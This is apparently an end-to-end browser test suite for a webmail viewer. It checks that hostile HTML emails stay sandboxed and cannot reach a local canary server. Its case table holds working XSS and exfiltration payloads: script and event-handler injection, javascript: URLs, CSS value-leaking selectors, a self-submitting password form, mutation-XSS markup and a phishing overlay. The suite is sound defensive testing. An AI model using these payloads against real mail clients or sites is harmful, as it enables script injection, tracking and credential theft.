import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import { afterAll, beforeAll, expect, test } from '@jest/globals'
import type { FrameLocator, Page } from 'playwright-core'
import { inBrowser, PATIENCE_MS } from '../e2e/browser.ts'
import { inTheLongRun } from '../faults/rounds.ts'
import { listening } from '../support/http-server.ts'
import { freshAddress, sendMail } from '../support/mail.ts'

/**
 * Every address that a mail might try to reach; it also counts connections because some attempts
 * send no request.
 */
interface Canary {
  url: string
  paths: string[]
  connections: number
}

/**
 * What an email's document must not contain: elements that load or embed other documents, and attributes that would
 * run a script, report a click or name the window of a link. Runs in the browser.
 */
function remainders(root: Element): string[] {
  const isForbidden = ({ name, value }: Attr) =>
    name.startsWith('on') ||
    /^\s*javascript:/i.test(value) ||
    name === 'ping' ||
    (name === 'target' && value !== '_blank') ||
    (name === 'rel' && value !== 'noopener noreferrer')
  const attributes = [...root.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes]
      .filter(isForbidden)
      .map(({ name, value }) => `${element.localName} ${name}=${value}`),
  )
  const elements = root.querySelectorAll(
    'script:not([defer]), base[href], meta[http-equiv="refresh" i], link, iframe, frame, frameset, object, embed, ' +
      'applet, portal, fencedframe',
  )
  return [...attributes, ...[...elements].map(({ outerHTML }) => outerHTML)]
}

inBrowser('hostile HTML stays caged', {}, (stage) => {
  const canary: Canary = { url: '', paths: [], connections: 0 }
  let server: Server
  let close: () => Promise<void>

  beforeAll(async () => {
    server = createServer((request, response) => {
      canary.paths.push(request.url!)
      response.setHeader('Access-Control-Allow-Origin', '*')
      response.end()
    })
    server.on('connection', () => canary.connections++)
    const listener = await listening(server)
    canary.url = listener.url
    close = listener.close
  })

  afterAll(() => close?.())

  async function newPage(): Promise<Page> {
    const page = await stage().open('/problems/')
    page.on('dialog', () => stage().faults.push('a dialog was opened'))
    page.on('download', () => stage().faults.push('a download was begun'))
    return page
  }

  /** Loads an inbox in the page, which gives it a new document, and opens the mail in it. */
  async function show(html: string, given?: Page): Promise<{ page: Page; mail: FrameLocator }> {
    const page = given ?? (await newPage())
    canary.paths = []
    canary.connections = 0
    const address = freshAddress()
    await sendMail(stage().service.smtp, { to: address, subject: 'Hostile', html })
    await page.goto(`${stage().service.http}/#${address}`)
    await page.locator('.row .subject').click()
    const mail = page.frameLocator('iframe.mail-frame').frameLocator('iframe')
    await mail.locator('html').waitFor({ state: 'attached' })
    // A text at the end would be no proof, because some of these mails swallow all that follows
    // them.
    await page.frames()[2]!.waitForLoadState('load')
    // Sandbox and policy hold without this; the document itself must not contain such attributes either.
    const left = await mail.locator('html').evaluate(remainders)
    expect(left).toEqual([])
    return { page, mail }
  }

  /** The page has not changed or navigated; the frame of the mail contains only the mail. */
  async function unharmed(page: Page): Promise<void> {
    expect(new URL(page.url()).origin).toBe(stage().service.http)
    expect(page.context().pages()).toHaveLength(1)
    const [, frame, mail, ...others] = page.frames()
    expect([frame?.url(), mail?.url(), others]).toEqual([
      `${stage().service.http}/frame.html`,
      'about:srcdoc',
      [],
    ])
    expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false)
    expect(await frame!.evaluate(() => 'pwned' in globalThis)).toBe(false)
    // The email covers no link of the navigation.
    await page.getByRole('link', { name: 'API keys' }).first().click()
    await page.getByRole('heading', { name: 'API keys' }).waitFor()
    expect(canary.paths).toEqual([])
    expect(canary.connections).toBe(0)
    // The browser reports in the console what it refused, as expected.
    stage().faults.splice(0)
  }

  const CASES: Record<string, (url: string) => string> = {
    scripts: (url) =>
      `<script>top.pwned = 1; fetch('${url}/fetch')</script><script src="${url}/script.js"></script>` +
      `<script type="module">import '${url}/module.js'</script>`,
    'event handlers': (url) =>
      `<img src=x onerror="parent.pwned=1;fetch('${url}/onerror')"><body onload="top.pwned=1">` +
      `<details open ontoggle="top.pwned=1">x</details><input autofocus onfocus="top.pwned=1">` +
      '<div style="animation:a 1ms" onanimationstart="top.pwned=1">x</div><style>@keyframes a{}</style>',
    'script URLs': () =>
      `<a href="javascript:top.pwned=1">a</a><iframe src="javascript:top.pwned=1"></iframe>` +
      `<form action="javascript:top.pwned=1"><button>go</button></form>`,
    'meta refresh': (url) => `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    base: (url) => `<base href="${url}/base/" target="_top"><img src="relative.png"><a href="x">relative</a>`,
    'frames and objects': (url) =>
      `<iframe src="${url}/frame"></iframe><object data="${url}/object"></object><embed src="${url}/embed">` +
      `<iframe srcdoc="<script>top.pwned=1</script><img src=${url}/nested>"></iframe><portal src="${url}/p"></portal>`,
    'other elements that embed': (url) =>
      `<fencedframe src="${url}/fenced"></fencedframe><applet code="${url}/applet"></applet>`,
    'links that report clicks or name their window': (url) =>
      `<a href="https://shop.example/" ping="${url}/ping" target="_top" rel="opener">Open</a>`,
    'a frameset': (url) => `<frameset><frame src="${url}/frameset"></frameset>`,
    'remote content of every kind': (url) =>
      `<img src="${url}/img"><img srcset="${url}/srcset 2x"><picture><source srcset="${url}/source"><img></picture>` +
      `<video src="${url}/video" poster="${url}/poster" autoplay></video><audio src="${url}/audio" autoplay></audio>` +
      `<table background="${url}/table"><tr><td background="${url}/td">x</td></tr></table>` +
      `<body background="${url}/body"><input type="image" src="${url}/input">` +
      `<svg><image href="${url}/svg"/><use href="${url}/use#x"/></svg><track src="${url}/track">`,
    'link elements': (url) =>
      ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender', 'stylesheet', 'icon', 'manifest']
        .map((rel) => `<link rel="${rel}" href="${url}/${rel}" as="image">`)
        .join(''),
    'style that asks elsewhere': (url) =>
      `<style>@import '${url}/import.css'; @font-face{font-family:f;src:url(${url}/font)}` +
      `body{background:url(${url}/background);font-family:f;cursor:url(${url}/cursor),auto;list-style:url(${url}/list)}` +
      `p::before{content:url(${url}/content)} input[value^="s"]{background:url(${url}/leak-s)}</style>` +
      `<input value="secret"><div style="background-image:url('${url}/inline')">x</div>`,
    'a form that sends itself': (url) =>
      `<form id="f" action="${url}/form" method="post" target="_top"><input name="password" autofocus>` +
      `<button formaction="${url}/formaction">Log in</button></form><script>f.submit()</script>`,
    'SVG and MathML': (url) =>
      `<svg onload="top.pwned=1"><script>top.pwned=1</script><a xlink:href="javascript:top.pwned=1"><text y="9">x</text></a>` +
      `<foreignObject><iframe src="${url}/foreign"></iframe></foreignObject>` +
      `<animate attributeName="href" values="javascript:top.pwned=1"/></svg>` +
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">`,
    'tricks of position': () =>
      '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">' +
      '<a href="https://phishing.example/" style="position:absolute;inset:0">Log in again</a></div>' +
      '<style>html,body{width:100vw;height:100vh;margin:-5000px}</style>',
    'markup that closes what holds it': (url) =>
      `</body></html></iframe>"'><img src="${url}/after"><script>top.pwned=1</script><!--</iframe>--><plaintext-not>`,
  }

  // One browser profile for all: a new one for each took most of the time of this suite.
  test(
    'no mail reaches the page or the network',
    async () => {
      const page = await newPage()
      for (const [name, html] of Object.entries(CASES)) {
        try {
          await unharmed((await show(html(canary.url), page)).page)
        } catch (cause) {
          throw new Error(`a mail with ${name} is not caged`, { cause })
        }
      }
    },
    4 * PATIENCE_MS,
  )

  inTheLongRun(
    'three megabytes of nested tables leave the page usable',
    async () => {
      const rows = '<table><tr><td>'.repeat(200) + 'x'.repeat(2_000_000) + '</table>'.repeat(200)
      const { page } = await show(rows + '<p>row</p>'.repeat(60_000))
      await unharmed(page)
    },
    PATIENCE_MS,
  )

  test(
    'a form in the mail can be filled in and sent nowhere',
    async () => {
      const { page, mail } = await show(
        `<form action="${canary.url}/form" target="_top"><input name="p"><button>Log in</button></form>`,
      )
      await mail.locator('input').fill('secret')
      await mail.getByRole('button', { name: 'Log in' }).click()
      await unharmed(page)
    },
    PATIENCE_MS,
  )

  test(
    'remote images load only when asked for, and nothing else then',
    async () => {
      const { page } = await show(
        `<img src="${canary.url}/wanted.png"><script src="${canary.url}/script.js"></script>` +
          `<link rel="stylesheet" href="${canary.url}/style.css"><iframe src="${canary.url}/frame"></iframe>` +
          `<style>@import '${canary.url}/import.css';</style><video src="${canary.url}/video"></video>`,
      )
      expect(canary.connections).toBe(0)
      const asked = once(server, 'request')
      await page.getByRole('button', { name: 'Load', exact: true }).click()
      await asked
      const mail = page.frameLocator('iframe.mail-frame').frameLocator('iframe')
      await mail.locator('img[src]').waitFor({ state: 'attached' })
      expect(canary.paths).toEqual(['/wanted.png'])
      stage().faults.splice(0)
    },
    PATIENCE_MS,
  )

  test(
    'links open in a tab that knows nothing of the mailbox',
    async () => {
      const targets = [`target="_top"`, `target="_self"`, `target="x" rel="opener"`, '']
      const { page, mail } = await show(
        targets.map((target, n) => `<p><a ${target} href="${canary.url}/link">Follow ${n}</a></p>`).join(''),
      )
      for (const n of targets.keys()) {
        const [tab] = await Promise.all([
          page.context().waitForEvent('page'),
          mail.getByRole('link', { name: `Follow ${n}` }).click(),
        ])
        await tab.waitForURL(`${canary.url}/link`)
        const seen = await tab.evaluate(() => ({ opener: opener === null, referrer: document.referrer }))
        expect(seen).toEqual({ opener: true, referrer: '' })
        expect(new URL(page.url()).origin).toBe(stage().service.http)
      }
    },
    PATIENCE_MS,
  )

  test(
    'markup in the text and the headers of an email is shown as text',
    async () => {
      const address = freshAddress()
      const markup = '<img src=x onerror="globalThis.pwned=1">'
      await sendMail(stage().service.smtp, {
        to: address,
        from: { name: markup, address: 'a@example.org' },
        subject: markup,
        text: `${markup} javascript:alert(1) https://example.org/"onmouseover="x`,
        headers: { 'X-Markup': markup },
      })
      const page = await stage().open(`/#${address}`)
      await page.locator('.row .subject').click()
      await page.getByRole('tab', { name: 'Headers' }).click()
      await page.getByRole('rowheader', { name: 'X-Markup' }).waitFor()
      expect(await page.locator('main img').count()).toBe(0)
      expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false)
      await page.getByRole('tab', { name: /^Links/ }).click()
      const hrefs = await page
        .getByRole('list', { name: 'Links' })
        .getByRole('link')
        .evaluateAll((all) => all.map((a) => (a as HTMLAnchorElement).href))
      expect(hrefs).not.toEqual([])
      for (const href of hrefs) expect(href).toMatch(/^https?:/)
    },
    PATIENCE_MS,
  )

  test(
    'the frame by itself shows nothing and has no origin',
    async () => {
      const page = await stage().open('/frame.html')
      expect(await page.evaluate(() => origin)).toBe('null')
      // This listener runs after the listener of the frame, which has handled the message by then.
      await page.evaluate(() =>
        new Promise((heard) => {
          addEventListener('message', heard, { once: true })
          postMessage({ html: '<p>from a stranger</p>', images: {}, remote: true }, '*')
        }).then(() => {}),
      )
      expect(await page.locator('iframe').count()).toBe(0)
      expect(page.frames()).toHaveLength(1)
    },
    PATIENCE_MS,
  )
})
